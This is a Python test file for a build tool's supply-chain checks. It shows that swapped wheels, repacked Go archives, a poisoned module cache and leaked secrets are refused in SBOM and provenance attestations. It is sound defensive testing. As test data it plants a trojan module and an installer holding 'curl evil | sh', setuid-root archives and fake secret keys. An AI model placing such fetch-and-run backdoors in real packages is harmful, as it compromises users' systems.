"""False attestations, tried as an attacker would on a real build of examples/hybrid.

Tampering with a finished release is covered by test_integrity.py. Here the attacker wants
reprotasks to *say something untrue*: to put a swapped wheel, a repacked Go archive, code from a
poisoned module cache or a secret into an SBOM or a provenance statement that exits 0. Each
attack asserts the refusal and its message; the honest paths (build then attest in separate
processes, release in one, assemble followed by reproduce) still pass and name their evidence.
"""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest

from .conftest import PreparedHybrid, cli, run_steps

pytestmark = [pytest.mark.network, pytest.mark.slow]

WHEEL = "hybrid_orchestrator-0.3.0-py3-none-any.whl"
SDIST = "hybrid_orchestrator-0.3.0.tar.gz"
LINUX = "worker_0.3.0_linux_amd64.tar.gz"
WINDOWS = "worker_0.3.0_windows_amd64.zip"
NO_EVIDENCE = "has no evidence that a build made these bytes"
LATER_STEPS = ("SHA256SUMS", "sbom.cdx.json", "provenance.intoto.json")


@pytest.fixture
def built(prepared_hybrid: PreparedHybrid) -> Path:
    return prepared_hybrid("built", lambda root: run_steps(root, "build"))


def _record_manifest(dist: Path, name: str, *, new_name: str | None = None) -> None:
    """What the attacker does after swapping a file: its size and sha256 (and name) into manifest.json,
    and the outputs of later steps removed, so the attestation steps start from a 'clean' dist/."""
    manifest = dist / "manifest.json"
    data = json.loads(manifest.read_text())
    for item in data["artifacts"]:
        if item["name"] == name:
            target = dist / (new_name or name)
            item.update(
                name=target.name, size=target.stat().st_size, sha256=hashlib.sha256(target.read_bytes()).hexdigest()
            )
    data["artifacts"].sort(key=lambda item: item["name"])
    manifest.write_text(json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False) + "\n")
    for later in LATER_STEPS:
        (dist / later).unlink(missing_ok=True)


def _attest_refused(root: Path, *expected: str) -> None:
    """sbom, checksum + provenance: both attestations refused with every ``expected`` text, nothing written."""
    output = cli(root, "sbom", code=1)
    assert all(text in output for text in expected), output
    cli(root, "checksum", code=0)  # a checksum is no claim about where the bytes came from
    output = cli(root, "provenance", code=1)
    assert all(text in output for text in expected), output
    assert not (root / "dist" / "sbom.cdx.json").exists() and not (root / "dist" / "provenance.intoto.json").exists()


def _trojan_wheel(wheel: Path) -> None:
    """A *valid* wheel (RECORD regenerated) with an extra module: only evidence can catch it."""
    with zipfile.ZipFile(wheel) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    members["hybrid_orchestrator/backdoor.py"] = b"import os\nos.system('curl evil | sh')\n"
    record = next(name for name in members if name.endswith(".dist-info/RECORD"))
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    for name, data in members.items():
        if name == record:
            continue
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        writer.writerow([name, f"sha256={digest}", len(data)])
    writer.writerow([record, "", ""])
    members[record] = rows.getvalue().encode()
    with zipfile.ZipFile(wheel, "w") as target:
        for name, data in members.items():
            target.writestr(name, data)


def test_a_swapped_wheel_is_never_attested(built: Path) -> None:
    dist = built / "dist"
    _trojan_wheel(dist / WHEEL)
    _record_manifest(dist, WHEEL)
    _attest_refused(built, "dist/manifest.json", NO_EVIDENCE, "reprotasks reproduce")


def test_a_wheel_whose_record_lies_is_named(built: Path) -> None:
    dist = built / "dist"
    with zipfile.ZipFile(dist / WHEEL, "a") as wheel:
        wheel.writestr("hybrid_orchestrator/unlisted.py", b"print('not in RECORD')\n")
    _record_manifest(dist, WHEEL)
    _attest_refused(built, f"dist/{WHEEL}", "holds 'hybrid_orchestrator/unlisted.py', which its RECORD does not list")


def test_an_sdist_that_is_not_a_tarball_is_named(built: Path) -> None:
    dist = built / "dist"
    (dist / SDIST).write_bytes(b"not-a-tarball\n")
    _record_manifest(dist, SDIST)
    _attest_refused(built, f"dist/{SDIST}: is not a gzip file", NO_EVIDENCE)


def test_a_wheel_of_another_project_is_named(built: Path) -> None:
    dist = built / "dist"
    other = "requests-2.32.0-py3-none-any.whl"
    (dist / WHEEL).rename(dist / other)
    _record_manifest(dist, WHEEL, new_name=other)
    _attest_refused(built, f"dist/{other}", "is a wheel of 'requests', but the project is 'hybrid-orchestrator'")


def _repack_tar(archive: Path, *, mode: int | None = None, owner: str = "", append: bytes = b"") -> None:
    with tarfile.open(archive, "r:gz") as source:
        members = [(info, source.extractfile(info).read()) for info in source.getmembers()]  # type: ignore[union-attr]
    raw = io.BytesIO()
    with (
        gzip.GzipFile(fileobj=raw, mode="wb", mtime=0, filename="") as compressed,
        tarfile.open(fileobj=compressed, mode="w", format=tarfile.USTAR_FORMAT) as target,
    ):
        for info, data in members:
            if mode is not None:
                info.mode = mode
            if owner:
                info.uname = info.gname = owner
            target.addfile(info, io.BytesIO(data))
    archive.write_bytes(raw.getvalue() + append)


@pytest.mark.parametrize(
    ("name", "attack"),
    [
        (LINUX, lambda path: _repack_tar(path, mode=0o4755, owner="root")),
        (LINUX, lambda path: _repack_tar(path, append=gzip.compress(b"#!/bin/sh\necho PWNED\n", mtime=0))),
        (WINDOWS, lambda path: path.write_bytes(b"#!/bin/sh\necho PWNED\nexit 0\n" + path.read_bytes())),
    ],
    ids=["setuid-root", "appended-gzip-member", "prepended-script"],
)
def test_a_go_archive_must_be_the_canonical_archive_of_its_binary(built: Path, name: str, attack: object) -> None:
    assert callable(attack)
    dist = built / "dist"
    attack(dist / name)
    _record_manifest(dist, name)
    _attest_refused(built, f"dist/{name}: is not the canonical archive of the binary it holds", NO_EVIDENCE)


def test_a_poisoned_module_cache_is_never_built(hybrid_repo: Path, tmp_path: Path) -> None:
    cache = tmp_path / "gomodcache"
    env = {"GOMODCACHE": str(cache), "GOFLAGS": "-mod=mod"}
    download = subprocess.run(
        ["go", "mod", "download"], cwd=hybrid_repo / "go", env={**os.environ, **env}, capture_output=True, text=True
    )
    assert download.returncode == 0, download.stderr
    module = cache / "github.com" / "google" / "uuid@v1.6.0"
    source = module / "version4.go"
    module.chmod(0o755)
    source.chmod(0o644)
    source.write_text(
        source.read_text().replace(
            "func NewRandom() (UUID, error) {", 'func NewRandom() (UUID, error) {\n\tprintln("PWNED")'
        )
    )
    output = cli(hybrid_repo, "build", env=env, code=1)
    assert "go/go.sum: `go mod verify` failed: the module cache does not match go.sum" in output, output
    assert "github.com/google/uuid v1.6.0: dir has been modified" in output
    assert "go clean -modcache" in output
    assert not (hybrid_repo / "dist").exists()
    for path in (module, *module.rglob("*")):  # so pytest can remove it
        path.chmod(path.stat().st_mode | stat.S_IWUSR)


def test_provenance_records_the_builds_settings_never_the_attesting_environment(built: Path) -> None:
    cli(built, "sbom", code=0)
    cli(built, "checksum", code=0)
    secret = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
    env = {"GOFLAGS": f"-tags=evil -ldflags=-X=main.apiKey={secret}", "GOTOOLCHAIN": "go1.99.0", "CI": "true"}
    # Settings of the attesting process that the build did not use are not its configuration either.
    env |= {"REPROTASKS_DIRTY_TREE": "warn", "REPROTASKS_GO_TOOLCHAIN_PIN": "none"}
    env |= {"REPROTASKS_SIGN_ISSUER": "https://issuer.invalid", "REPROTASKS_SIGN_IDENTITY": "x@invalid"}
    cli(built, "provenance", env=env, code=0)
    text = (built / "dist" / "provenance.intoto.json").read_text()
    assert secret not in text and "evil" not in text and "go1.99.0" not in text and "invalid" not in text
    predicate = json.loads(text)["predicate"]
    config = predicate["buildDefinition"]["externalParameters"]["config"]
    assert "dirty-tree" not in config and "toolchain-pin" not in config["go"] and "sign" not in config
    byproducts = {item["name"]: item["annotations"] for item in predicate["runDetails"]["byproducts"]}
    assert byproducts["environment"] == {"CI": "true"}
    assert byproducts["evidence"]["kind"] == "build record"
    go = predicate["buildDefinition"]["internalParameters"]["go"]
    assert go["environment"] == {"CGO_ENABLED": "0", "GOFLAGS": "-mod=readonly", "GOTOOLCHAIN": "go1.26.8"}


def test_secret_looking_linker_values_are_masked_in_provenance() -> None:
    from reprotasks.artifacts.provenance import scrub_assignments

    command = (
        '["-ldflags=-s -w -X main.version=0.3.0 -X=main.apiKey=sk_live_4eC39HqLyjWDa -X main.dbPassword=hunter2x"]'
    )
    assert scrub_assignments(command) == (
        '["-ldflags=-s -w -X main.version=0.3.0 -X=main.apiKey=*** -X main.dbPassword=***"]'
    )
    assert json.loads(scrub_assignments(json.dumps(['-X main.token=abc"d']))) == ['-X main.token=***"d']
    ldflags = ["-X", "main.apiKey=s3cr3tValue42xyz", "-X=main.dbPassword=hunter2hunter2", "GOFLAGS=-mod=readonly"]
    assert json.loads(scrub_assignments(json.dumps(ldflags))) == [
        "-X", "main.apiKey=***", "-X=main.dbPassword=***", "GOFLAGS=-mod=readonly"
    ]  # fmt: skip


def test_a_dist_without_evidence_is_refused_and_reproduce_provides_it(built: Path) -> None:
    """A dist/ built elsewhere (here: its build record removed) is attested only once reproduced;
    reproduce of a tampered dist/ fails and provides nothing."""
    dist = built / "dist"
    shutil.rmtree(Path(os.environ["REPROTASKS_CACHE_DIR"]) / "witnessed-builds")
    output = cli(built, "sbom", code=1)
    assert f"dist/manifest.json: {NO_EVIDENCE}" in output and "`reprotasks reproduce`" in output
    honest = dist / LINUX
    kept = honest.read_bytes()
    _repack_tar(honest, mode=0o4755)
    output = cli(built, "reproduce", code=1)  # a file that is not what its manifest records
    assert f"dist/{LINUX}: does not have the sha256 its manifest.json records" in output
    _record_manifest(dist, LINUX)
    output = cli(built, "reproduce", code=1)
    assert f"dist/{LINUX}: differs when rebuilt" in output
    output = cli(built, "sbom", code=1)
    assert NO_EVIDENCE in output
    honest.write_bytes(kept)
    _record_manifest(dist, LINUX)
    cli(built, "reproduce", code=0)
    for step in ("sbom", "checksum", "provenance"):
        cli(built, step, code=0)
    predicate = json.loads((dist / "provenance.intoto.json").read_text())["predicate"]
    evidence = [item for item in predicate["runDetails"]["byproducts"] if item["name"] == "evidence"]
    assert [item["annotations"]["kind"] for item in evidence] == ["reproduced"]
    assert "independent rebuild" in evidence[0]["annotations"]["detail"]


def test_provenance_names_only_what_was_checked(built: Path) -> None:
    """SHA256SUMS is not evidence: a file it adds, or an SBOM that is not this dist/'s, is never a subject."""
    dist = built / "dist"
    cli(built, "sbom", code=0)
    cli(built, "checksum", code=0)
    installer = dist / "installer.sh"
    cli(built, "provenance", code=0)
    installer.write_text("#!/bin/sh\ncurl evil | sh\n")
    with (dist / "SHA256SUMS").open("a") as sums:
        sums.write(f"{hashlib.sha256(installer.read_bytes()).hexdigest()}  installer.sh\n")
    output = cli(built, "sign", code=1)  # never signs a SHA256SUMS its provenance does not name
    assert "dist/provenance.intoto.json: has no subject for 'installer.sh', which SHA256SUMS lists" in output
    (dist / "provenance.intoto.json").unlink()
    output = cli(built, "provenance", code=1)
    assert "dist/SHA256SUMS: lists 'installer.sh', which no build wrote" in output
    installer.unlink()
    sbom = json.loads((dist / "sbom.cdx.json").read_text())
    sbom["components"] = []
    (dist / "sbom.cdx.json").write_text(json.dumps(sbom))
    cli(built, "checksum", code=0)
    output = cli(built, "provenance", code=1)
    assert "lists 'sbom.cdx.json', which is not the SBOM `reprotasks sbom` makes of this dist/" in output
    assert not (dist / "provenance.intoto.json").exists()


def test_release_attests_the_build_of_its_own_invocation(hybrid_repo: Path) -> None:
    cli(hybrid_repo, "release", "--skip", "sign", "--skip", "verify-signatures", code=0)
    predicate = json.loads((hybrid_repo / "dist" / "provenance.intoto.json").read_text())["predicate"]
    kinds = [
        item["annotations"]["kind"] for item in predicate["runDetails"]["byproducts"] if item["name"] == "evidence"
    ]
    assert kinds == ["build in this invocation"]


def test_inherited_go_settings_never_change_the_binary(built: Path) -> None:
    """GOEXPERIMENT in the caller's environment, or GOFIPS140 in go's environment file (`go env -w`),
    change the binary unrecorded."""
    first = (built / "dist" / LINUX).read_bytes()
    goenv = built.parent / "goenv"
    goenv.write_text("GOFIPS140=latest\n")
    cli(built, "build", "--force", env={"GOEXPERIMENT": "nogreenteagc", "GOENV": str(goenv)}, code=0)
    assert (built / "dist" / LINUX).read_bytes() == first
